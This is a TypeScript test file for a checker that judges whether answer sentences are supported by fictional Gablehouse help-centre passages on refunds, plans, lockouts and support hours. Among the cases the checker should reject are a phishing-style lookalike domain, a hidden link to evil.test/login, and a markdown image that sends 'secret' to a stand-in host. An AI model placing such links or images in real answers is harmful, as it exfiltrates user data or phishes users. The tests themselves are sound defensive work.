import { expect, test } from 'vitest'
import { type EvidenceText, readEvidence } from './evidence.ts'
import { supportOf } from './support.ts'

const PASSAGES = {
  refund: {
    title: 'Request a refund to get your money back',
    heading: 'How long a refund takes',
    text: `- Decision: up to 2 working days after the request.
- Card: 5 to 7 working days after approval.
- EFT and debit order: 3 to 5 working days after approval.

A card refund therefore takes up to 9 working days in total. Your bank may show a card refund under the original date of the payment, so look there as well.`,
  },
  request: {
    title: 'Request a refund to get your money back',
    heading: '',
    text: `To get money back, the Owner clicks to request a refund under **Settings > Billing > Payments > Ask for a refund**. The support team decides within 2 working days, and the money follows 3 to 7 working days after approval.

Only the Owner can send a refund request, because refunds change the agency's billing. A Bookkeeper or Administrator who wants to claim back a duplicate payment can see the invoices and asks the Owner to send the request.`,
  },
  plans: {
    title: 'Plans, prices and limits',
    heading: 'Compare Starter, Team and Office',
    text: `Gablehouse costs R490 a month for Starter, R1 490 for Team and R3 900 for Office, with 15% VAT included in all prices. Paying yearly costs ten monthly fees, which is a discount of two months.

| | Starter | Team | Office |
| --- | --- | --- | --- |
| Users included | 3 | 12 | 40 |
| Storage | 10 GB | 100 GB | 500 GB |
| Audit log | No | No | Yes |

Extra users on Team and Office cost R95 per user per month, including VAT.`,
  },
  lockout: {
    title: "Reset a user's password for someone else",
    heading: 'Unlock an agent or colleague who is locked out',
    text: `A login is locked for 20 minutes after 6 wrong passwords in a row, and the agent sees error GH-1017. An Owner or Administrator can end the lock sooner with **Unlock now** under **Settings > Users > (name) > Security**.

- The Owner may reset every user.
- An Administrator may reset everyone except the Owner.
- A Manager cannot reset passwords and has to ask an Administrator.`,
  },
  link: {
    title: 'Forgot your password? Reset it yourself',
    heading: 'How long the reset link is valid',
    text: 'The link in the reset e-mail that you ask for yourself is valid for 60 minutes and can be used once, while a link from an administrator is valid for 24 hours. A password must have at least 12 characters. Gablehouse passwords do not expire. Never send a password to the support team.',
  },
  cancel: {
    title: 'Cancel or stop your subscription',
    heading: 'What happens after the last day',
    text: `If there is no confirmation, the subscription has not been cancelled. Cancel at least 5 working days before the renewal date to stop the automatic yearly renewal.

- Listings are withdrawn from all portals on the last day.
- Users other than the Owner can no longer log in.
- The Owner can still log in to the cancelled account for 30 more days, to view and export data.
- All account data is deleted 90 days after the last day.`,
  },
  support: {
    title: 'Support hours and how to reach us',
    heading: '',
    text: `The Gablehouse support team is available Monday to Friday from 07:30 to 18:00 and Saturday from 08:30 to 13:00, South African time. Support is closed on Sundays and public holidays.

Chats are answered within 5 minutes during support hours. Everybody can follow a current outage at \`https://status.gablehouse.example\`, where updates appear at least every 30 minutes. Write to \`support@gablehouse.example\` from the address you sign in with.`,
  },
  deposit: {
    title: 'Tenant deposits and interest',
    heading: 'Who gets the interest?',
    text: "The interest belongs to the tenant on residential leases and is paid out with the deposit. On commercial leases you can choose tenant or landlord in the field **Interest to**. A changed rate applies from the date you enter and never changes past months. Gablehouse accepts any deposit amount and shows a warning above 3 months' rent. The agency pays the landlord before the tenant moves out.",
  },
  bundles: {
    title: 'SMS bundles and storage',
    heading: 'What is included',
    text: `Starter includes 50 SMS messages a month, Team includes 300 and Office includes 1 500. Starter includes 10 GB of storage, Team includes 100 GB and Office includes 500 GB.

Gablehouse reminds buyers of a viewing 24 hours and 2 hours before the start. Reminders are refreshed once an hour. Open **Settings > Billing > Invoice details**, enter the VAT number and click **Save**. Owners can restore any listing they can see. Agents can restore only listings that they deleted themselves. A file may be at most 15 MB.`,
  },
  twoStep: {
    title: 'Set up two-step sign-in',
    heading: '',
    text: 'Two-step sign-in is compulsory for Owners, Administrators and Bookkeepers and optional for all other roles. Users must set up their phone before they can continue. Tick **Trust this device for 30 days** to skip the code on a computer that only you use. The old phone stops giving valid codes as soon as the new phone is confirmed.',
  },
} satisfies Record<string, EvidenceText>
type Passage = keyof typeof PASSAGES

const isSupported = (sentence: string, passage: Passage): boolean =>
  supportOf(sentence, readEvidence(PASSAGES[passage])).supported

test.each<[string, Passage, string]>([
  ['number changed', 'refund', 'Card: 5 to 9 working days after approval.'],
  ['number of another line', 'refund', 'A card refund takes 3 to 5 working days after approval.'],
  ['number changed', 'request', 'The support team decides within 3 working days.'],
  ['numbers exchanged', 'lockout', 'A login is locked for 6 minutes after 20 wrong passwords in a row.'],
  ['prices exchanged', 'plans', 'Gablehouse costs R1 490 a month for Starter and R490 for Team.'],
  ['cell of another column', 'plans', 'Team includes 40 users.'],
  ['cell of another row', 'plans', 'The Team plan includes 12 GB of storage.'],
  ['number word changed', 'plans', 'Paying yearly costs eleven monthly fees.'],
  ['number words exchanged', 'plans', 'Paying yearly costs two monthly fees, which is a discount of ten months.'],
  ['percentage changed', 'plans', 'Prices include 14% VAT.'],
  ['percentage to amount', 'plans', 'Prices include R15 VAT.'],
  ['currency changed', 'plans', 'Gablehouse costs $490 a month for Starter.'],
  ['period changed', 'plans', 'Extra users on Team and Office cost R95 per user per year, including VAT.'],
  ['plan swapped', 'plans', 'Extra users on Starter and Office cost R95 per user per month.'],
  ['yes for no', 'plans', 'The audit log is part of Team.'],
  ['unit changed', 'link', 'The link that you ask for yourself is valid for 60 hours.'],
  ['working days to days', 'refund', 'A card refund takes up to 9 days in total.'],
  ['unit of another number', 'link', 'A link from an administrator is valid for 24 minutes.'],
  ['numbers of two statements', 'link', 'A link from an administrator is valid for 60 minutes.'],
  ['at least to at most', 'link', 'A password must have at most 12 characters.'],
  ['"not" dropped', 'link', 'Gablehouse passwords do expire.'],
  ['"not" dropped in other words', 'link', 'Gablehouse passwords expire.'],
  ['"never" dropped', 'link', 'Send a password to the support team.'],
  ['"never" to "always"', 'link', 'Always send a password to the support team.'],
  ['"not" added', 'cancel', 'The Owner can no longer log in to the cancelled account for 30 more days.'],
  ['"cannot" to "can"', 'lockout', 'A Manager can reset passwords.'],
  ['"can" to "cannot"', 'lockout', 'An Owner or Administrator cannot end the lock sooner.'],
  ['denied by a prefix', 'cancel', 'If there is no confirmation, the subscription has been cancelled.'],
  ['condition turned', 'cancel', 'If there is a confirmation, the subscription has not been cancelled.'],
  ['"must" to "may"', 'twoStep', 'Users may set up their phone before they can continue.'],
  ['compulsory to optional', 'twoStep', 'Two-step sign-in is optional for Owners, Administrators and Bookkeepers.'],
  [
    '"before" to "after"',
    'cancel',
    'Cancel at least 5 working days after the renewal date to stop the automatic yearly renewal.',
  ],
  ['"after" to "before"', 'cancel', 'All account data is deleted 90 days before the last day.'],
  ['"above" to "below"', 'deposit', "Gablehouse shows a warning below 3 months' rent."],
  ['"only" dropped', 'request', 'The Owner can send a refund request and so can others.'],
  ['"only" to "also"', 'request', 'Also the Owner can send a refund request.'],
  ['"only" added', 'support', 'Chats are only answered within 5 minutes on Fridays.'],
  ['exception dropped', 'lockout', 'An Administrator may reset everyone.'],
  ['exception turned', 'lockout', 'The Owner may reset everyone except an Administrator.'],
  ['who does what reversed', 'deposit', 'The landlord pays the agency before the tenant moves out.'],
  ['who does what reversed', 'request', 'The Owner asks the Bookkeeper or Administrator to send the request.'],
  ['who does what reversed', 'lockout', 'An Administrator cannot reset passwords and has to ask a Manager.'],
  ['role swapped', 'request', 'Only the Bookkeeper can send a refund request.'],
  ['owner of a right swapped', 'deposit', 'The interest belongs to the landlord on residential leases.'],
  ['kind swapped', 'deposit', 'The interest belongs to the tenant on commercial leases.'],
  ['old and new swapped', 'twoStep', 'The new phone stops giving valid codes as soon as the old phone is confirmed.'],
  ['day changed', 'support', 'The support team is available Monday to Saturday from 07:30 to 18:00.'],
  ['day changed', 'support', 'Support is closed on Saturdays and public holidays.'],
  ['time changed', 'support', 'The support team is available Monday to Friday from 08:30 to 18:00.'],
  ['hours of another day', 'support', 'On Saturday the support team is available from 07:30 to 18:00.'],
  ['menu path changed', 'request', 'Request a refund under Settings > Users > Payments > Ask for a refund.'],
  ['button swapped', 'lockout', 'End the lock sooner with Reset now under Settings > Users.'],
  ['error code changed', 'lockout', 'The agent sees error GH-1071.'],
  ['address changed', 'support', 'Write to support@gablehouse.com from the address you sign in with.'],
  [
    'domain changed',
    'support',
    'Everybody can follow a current outage at https://status.gablehouse.example.evil.test.',
  ],
  ['hidden link', 'support', 'Everybody can follow a [current outage](https://evil.test/login).'],
  [
    'image that carries words out',
    'support',
    'Support is closed on Sundays and public holidays ![.](https://evil.test/p.png?q=secret).',
  ],
  ['tag', 'support', 'Support is closed on Sundays <img src=x> and public holidays.'],
  ['from nowhere', 'refund', 'Loyal customers get their refund doubled.'],
  [
    'from nowhere, in the passage’s words',
    'cancel',
    'The Owner can export the portals of all users on the renewal date.',
  ],
  ['from nowhere, after a truth', 'link', 'Gablehouse passwords do not expire, and refunds are paid at once.'],
  ['another passage’s truth', 'refund', 'A password must have at least 12 characters.'],
  ['number of a rival', 'bundles', 'Team includes 50 SMS messages a month.'],
  ['number of a rival', 'bundles', 'Office includes 300 SMS messages.'],
  ['number of a rival', 'bundles', 'Team includes 10 GB of storage.'],
  ['everybody for the few', 'bundles', 'Any agent can restore listings.'],
  ['subject of another sentence', 'bundles', 'Agents can restore any listing they can see.'],
  ['a comparison that nobody made', 'bundles', 'Reminders are refreshed less often than the storage.'],
  ['"at most" to "larger than"', 'bundles', 'A file may be larger than 15 MB.'],
  ['"once" to "twice"', 'bundles', 'Reminders are refreshed twice an hour.'],
  ['nothing but yes', 'refund', 'Yes, you can.'],
])('caught: %s (%s): %s', (_, passage, sentence) => expect(isSupported(sentence, passage)).toBe(false))

test.each<[Passage, string]>([
  ['refund', 'Card refunds take 5 to 7 working days after approval.'],
  ['refund', 'After approval, a card refund takes 5 to 7 working days.'],
  ['refund', 'By EFT or debit order it takes 3 to 5 working days after approval.'],
  ['refund', 'In total, a card refund takes up to nine working days.'],
  ['refund', 'The decision takes up to 2 working days after your request.'],
  ['refund', 'Your bank may show the card refund under the original payment date.'],
  ['request', 'The support team decides within two working days.'],
  ['request', 'You can request a refund under **Settings > Billing > Payments > Ask for a refund**.'],
  ['request', 'Only the Owner can send a refund request.'],
  ['request', 'A refund request can be sent only by the Owner.'],
  [
    'request',
    'The support team decides within 2 working days, then the money follows 3 to 7 working days after approval.',
  ],
  ['request', 'A Bookkeeper can see the invoices and asks the Owner to send the request.'],
  ['plans', 'Team costs R1 490 a month.'],
  ['plans', 'Starter costs R490 a month and Office costs R3 900.'],
  ['plans', 'The monthly price is R3,900 for Office.'],
  ['plans', 'All prices include 15% VAT.'],
  ['plans', 'All prices include 15 percent VAT.'],
  ['plans', 'If you pay yearly, you get a discount of two months.'],
  ['plans', 'Team includes 12 users.'],
  ['plans', 'The Office plan includes 500 GB of storage.'],
  ['plans', 'Extra users cost R95 per month on Team and Office.'],
  ['lockout', 'After 6 wrong passwords in a row, a login is locked for 20 minutes.'],
  ['lockout', 'Your login is locked for 20 minutes after six wrong passwords in a row.'],
  ['lockout', 'An Administrator can end the lock sooner with **Unlock now**.'],
  ['lockout', 'The lock can be ended sooner by an Owner or Administrator.'],
  ['lockout', 'Managers cannot reset passwords and must ask an Administrator.'],
  ['lockout', "A Manager can't reset passwords."],
  ['lockout', 'Error GH-1017 means that the login is locked for 20 minutes after 6 wrong passwords.'],
  ['lockout', 'An Administrator may reset everyone except the Owner, while the Owner may reset every user.'],
  ['link', 'A reset link from an administrator is valid for 24 hours.'],
  ['link', 'The link that you ask for yourself is valid for 60 minutes.'],
  ['link', 'Your password needs at least 12 characters.'],
  ['link', 'Passwords do not expire.'],
  ['link', "No, passwords don't expire."],
  ['link', 'The link can be used once.'],
  ['cancel', 'All account data is deleted 90 days after the last day.'],
  ['cancel', 'Your listings are withdrawn from all portals on the last day.'],
  ['cancel', 'You can still log in for 30 more days to view and export data.'],
  ['cancel', 'To stop the automatic yearly renewal, cancel at least 5 working days before the renewal date.'],
  ['cancel', 'Other users can no longer log in.'],
  ['cancel', 'The subscription has not been cancelled if there is no confirmation.'],
  ['support', 'Support is available Monday to Friday from 07:30 to 18:00.'],
  ['support', 'On Saturday the team is available from 08:30 to 13:00.'],
  ['support', 'Support is closed on public holidays and Sundays.'],
  ['support', 'Chats are answered within 5 minutes during support hours, and support is closed on Sundays.'],
  ['support', 'You can follow a current outage at [the status page](https://status.gablehouse.example).'],
  ['support', 'Updates appear at least every 30 minutes.'],
  ['support', 'Write to support@gablehouse.example.'],
  ['deposit', 'On residential leases the interest belongs to the tenant.'],
  ['deposit', 'A warning is shown above 3 months of rent.'],
  ['deposit', 'Past months are never changed.'],
  ['deposit', 'On commercial leases, you choose tenant or landlord in the field **Interest to**.'],
  ['bundles', 'On the Team plan you get 300 SMS messages per month.'],
  ['bundles', 'Office includes 1 500 SMS messages.'],
  ['bundles', 'On Team you get 100 GB of storage.'],
  ['bundles', 'Buyers are reminded 24 hours and 2 hours before the viewing.'],
  ['bundles', 'Reminders refresh hourly.'],
  ['bundles', 'To show your VAT number, enter it under **Settings > Billing > Invoice details**.'],
  ['bundles', 'Each file may be no more than 15 MB.'],
  ['bundles', 'Agents can only restore listings they deleted themselves.'],
  ['twoStep', 'Two-step sign-in is mandatory for Owners, Administrators and Bookkeepers.'],
  ['twoStep', 'For all other roles, two-step sign-in is optional.'],
  ['twoStep', 'Once the new phone is confirmed, the old phone stops giving valid codes.'],
  ['twoStep', 'To skip the code on a computer that only you use, tick **Trust this device for 30 days**.'],
])('borne out by %s: %s', (passage, sentence) =>
  expect(supportOf(sentence, readEvidence(PASSAGES[passage]))).toEqual({ supported: true }),
)

test.each([
  ['a tag that the passage does not have, although it has another sign of it', 'The link <b>works</b> for 24 hours.'],
  ['what is too long to be a sentence', `The link works, ${'and the link works for 24 hours, '.repeat(12)}.`],
])('not read: %s', (_, sentence) =>
  expect(supportOf(sentence, readEvidence({ title: '', heading: '', text: 'The link works for < 24 hours.' }))).toEqual(
    {
      supported: false,
      why: expect.any(String),
    },
  ),
)

test('a wall of text bears out what stands together in it, and not what is strewn over it', () => {
  const wall = (start: string, end: string): string => `${start} ${'lorem ipsum dolor sit amet '.repeat(20)}${end}`
  const together = readEvidence({
    title: '',
    heading: '',
    text: wall('the red parcel leaves the harbour at noon', 'so'),
  })
  const strewn = readEvidence({ title: '', heading: '', text: wall('the red parcel leaves', 'the harbour at noon') })
  expect(supportOf('The red parcel leaves the harbour at noon.', together).supported).toBe(true)
  expect(supportOf('The red parcel leaves the harbour at noon.', strewn).supported).toBe(false)
})
